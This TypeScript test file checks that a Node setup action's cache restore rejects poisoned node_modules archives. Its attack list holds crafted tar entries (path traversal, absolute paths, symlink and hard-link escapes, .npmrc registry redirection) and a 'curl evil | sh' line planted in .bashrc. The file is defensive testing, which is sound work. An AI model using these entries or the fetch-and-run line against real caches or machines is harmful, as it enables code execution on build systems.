/**
 * A cache entry as an attacker who could write one would make it (issue 18, attacks 4 and 5): the restore must write
 * nothing of it, outside node_modules or in it, and the run installs as if there were no cache.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { extract, pack, type Headers } from 'tar-stream';
import { snapshotTree, type TreeEntry } from './support/cache-tree.js';
import { makeSandbox, runSetup, warningsOf, type Sandbox } from './support/e2e.js';
import type { ActionRun } from './support/runner.js';
import { useCacheServer, useRegistry } from './support/servers.js';

const [registry, server] = await Promise.all([useRegistry(), useCacheServer()]);
const PREFIX = 'poisoned';
const BASHRC = "# the runner user's own shell setup\n";

const sandboxes: Sandbox[] = [];
after(() => Promise.all(sandboxes.map((sandbox) => sandbox.cleanup())));

async function sandbox(programs?: Record<string, unknown>): Promise<Sandbox> {
  const made = await makeSandbox(programs);
  sandboxes.push(made);
  return made;
}

/** Runs with the cache on; the run must succeed and say nothing unexpected. */
async function cachedRun(where: Sandbox, protocol: 'v1' | 'v2', home?: string): Promise<ActionRun> {
  const run = await runSetup(registry, where, { inputs: { cache: 'true', 'cache-key-prefix': PREFIX }, env: server.env(protocol), ...(home ? { home } : {}) });
  assert.doesNotMatch(run.main.stdout + run.main.stderr, /Unexpected error|\n\s+at .+:\d+:\d+/, 'no stack trace');
  assert.equal(run.main.exitCode, 0, run.main.log);
  return run;
}

type Entry = Headers & { content?: Buffer };

/** The entries of a zstd cache archive, contents included. */
async function readArchive(archivePath: string): Promise<Entry[]> {
  const tar = execFileSync('zstd', ['-d', '-c', '--long=30', archivePath], { maxBuffer: 1 << 30 });
  const reader = extract();
  reader.end(tar);
  const entries: Entry[] = [];
  for await (const entry of reader) {
    const chunks: Buffer[] = [];
    for await (const chunk of entry) chunks.push(chunk as Buffer);
    entries.push({ ...entry.header, content: Buffer.concat(chunks) });
  }
  return entries;
}

async function writeArchive(archivePath: string, entries: Entry[]): Promise<void> {
  const packer = pack();
  const chunks: Buffer[] = [];
  packer.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => packer.on('end', resolve));
  for (const { content, ...header } of entries) packer.entry(header, header.type === 'file' || !header.type ? content : undefined);
  packer.finalize();
  await done;
  fs.writeFileSync(archivePath, execFileSync('zstd', ['-q', '-c'], { input: Buffer.concat(chunks), maxBuffer: 1 << 30 }));
}

const file = (name: string, content: string): Entry => ({ name, type: 'file', mode: 0o644, content: Buffer.from(content) });

/** What a run may not change: the checkout outside node_modules, HOME, and the folder that holds the checkout. */
async function outsideNodeModules(where: Sandbox, home: string): Promise<Record<string, TreeEntry | string[]>> {
  const checkout = Object.entries(await snapshotTree(where.workspace)).filter(([name]) => !/(^|\/)node_modules(\/|$)/.test(name));
  const home_ = Object.entries(await snapshotTree(home)).filter(([name]) => !name.startsWith('.npm'));
  // The run's own temp area, and the npm cache its install fills, are the harness's.
  const around = fs.readdirSync(where.root).filter((name) => !name.startsWith('action-run-') && name !== 'npm-cache');
  return { ...Object.fromEntries(checkout.map(([name, entry]) => [`checkout/${name}`, entry])), ...Object.fromEntries(home_), around };
}

describe('a poisoned node_modules cache entry', () => {
  let first: Sandbox;
  let archivePath: string;
  let savedEntries: Entry[];

  before(async () => {
    // A default-branch run saves a real tree; each attack then replaces that entry's archive.
    first = await sandbox();
    await (await runSetup(registry, first)).cleanup();
    fs.rmSync(path.join(first.workspace, 'node_modules'), { recursive: true });
    const saved = await cachedRun(first, 'v2');
    await saved.cleanup();
    const key = saved.main.outputs['cache-primary-key'];
    const entry = server.entries().find((candidate) => candidate.key === key);
    assert.ok(entry, 'the tree was saved');
    archivePath = entry.archivePath;
    savedEntries = await readArchive(archivePath);
  });

  const attacks: { attack: string; entries: (root: string, home: string) => Entry[]; refused: string; why: RegExp }[] = [
    { attack: 'a path with ..', entries: () => [file('../x', 'planted')], refused: '../x', why: /a path with a "\.\." component/ },
    { attack: 'an absolute path', entries: (_, home) => [file(`${home}/.bashrc`, 'curl evil | sh\n')], refused: '{home}/.bashrc', why: /an absolute path/ },
    {
      attack: "the checkout's .npmrc",
      entries: () => [file('.npmrc', 'registry=http://127.0.0.1:9/\n')],
      refused: '.npmrc',
      why: /outside the node_modules trees/,
    },
    {
      attack: "the checkout's package.json",
      entries: () => [file('package.json', '{"name":"owned"}')],
      refused: 'package.json',
      why: /outside the node_modules/,
    },
    {
      attack: 'a symlink out of the workspace, then a file through it',
      entries: (root) => [{ name: 'node_modules/escape', type: 'symlink', linkname: root }, file('node_modules/escape/x', 'planted')],
      refused: 'node_modules/escape',
      why: /a symbolic link to ".*", outside the workspace/,
    },
    {
      attack: 'a symlink inside the workspace, then its .npmrc through it',
      entries: () => [{ name: 'node_modules/up', type: 'symlink', linkname: '..' }, file('node_modules/up/.npmrc', 'registry=http://127.0.0.1:9/\n')],
      refused: 'node_modules/up/.npmrc',
      why: /written through the symbolic link node_modules\/up/,
    },
    {
      attack: 'a hard link to a file outside',
      entries: (_, home) => [{ name: 'node_modules/hl', type: 'link', linkname: `${home}/.bashrc` }, file('node_modules/hl', 'curl evil | sh\n')],
      refused: 'node_modules/hl',
      why: /a hard link to a file outside the node_modules trees/,
    },
  ];
  for (const [index, { attack, entries, refused, why }] of attacks.entries()) {
    const protocol = index % 2 ? 'v1' : 'v2';
    it(`${attack}: a miss with a warning naming the entry, nothing written, a normal install (service ${protocol})`, async () => {
      const second = await sandbox();
      fs.copyFileSync(path.join(first.workspace, 'package-lock.json'), path.join(second.workspace, 'package-lock.json'));
      const home = path.join(second.root, 'home');
      fs.mkdirSync(home);
      fs.writeFileSync(path.join(home, '.bashrc'), BASHRC);
      // Among the real tree's entries, where a check that stopped early would miss it.
      const poison = entries(second.root, home);
      await writeArchive(archivePath, [...savedEntries.slice(0, 3), ...poison, ...savedEntries.slice(3)]);
      const before = await outsideNodeModules(second, home);

      const run = await cachedRun(second, protocol, home);
      try {
        assert.equal(run.main.outputs['cache-hit'], 'false');
        const named = refused.replace('{home}', home);
        const warnings = warningsOf(run.main).map((warning) => warning.message);
        const warning = warnings.find((message) => message.includes(`holds ${JSON.stringify(named)}: `));
        assert.ok(warning, `a warning names ${named}: ${JSON.stringify(warnings)}`);
        assert.match(warning, why);
        assert.match(warning, /Nothing of it was restored; installing without it\.$/);
        assert.match(run.main.log, /\[command\]\S*npm (ci|install)/, 'the run installed');
        assert.ok(fs.existsSync(path.join(second.workspace, 'node_modules/@pulumi/aws/package.json')), 'the install made the tree');
        assert.deepEqual(await outsideNodeModules(second, home), before, 'nothing outside node_modules was written or changed');
        assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), BASHRC);
        for (const planted of ['x', 'node_modules/escape', 'node_modules/up', 'node_modules/hl']) {
          assert.ok(!fs.existsSync(path.join(second.root, planted)) && !fs.existsSync(path.join(second.workspace, planted)), `no ${planted}`);
        }
      } finally {
        await run.cleanup();
      }
    });
  }
});

describe("a cache entry with npm's own links", () => {
  it('workspace members and file: folders inside the workspace are linked, and the entry still hits', async () => {
    const where = await sandbox({
      '.': { name: 'root', private: true, workspaces: ['stacks/*'], dependencies: { 'local-lib': 'file:./libs/local-lib' } },
      'stacks/app': { name: 'app', version: '1.0.0', dependencies: { '@pulumi/aws': '^0.10.0' }, peerDependencies: { pulumi: 'latest' } },
    });
    fs.rmSync(path.join(where.workspace, 'index.js'));
    fs.mkdirSync(path.join(where.workspace, 'libs/local-lib'), { recursive: true });
    fs.writeFileSync(path.join(where.workspace, 'libs/local-lib/package.json'), '{"name":"local-lib","version":"1.0.0"}');
    for (const [cache, hit] of [
      ['false', 'false'],
      ['true', 'false'],
      ['true', 'true'],
    ] as const) {
      fs.rmSync(path.join(where.workspace, 'node_modules'), { recursive: true, force: true });
      const run = await runSetup(registry, where, { inputs: { cache, 'cache-key-prefix': 'npm-links' }, env: server.env('v2') });
      try {
        assert.equal(run.main.exitCode, 0, run.main.log);
        assert.equal(run.main.outputs['cache-hit'], hit, run.main.log);
        assert.deepEqual(warningsOf(run.main), []);
        for (const [link, target] of [
          ['app', 'stacks/app'],
          ['local-lib', 'libs/local-lib'],
        ]) {
          const linked = path.join(where.workspace, 'node_modules', link!);
          assert.ok(fs.lstatSync(linked).isSymbolicLink(), `${link} is a link`);
          assert.equal(fs.realpathSync(linked), fs.realpathSync(path.join(where.workspace, target!)));
        }
      } finally {
        await run.cleanup();
      }
    }
  });
});
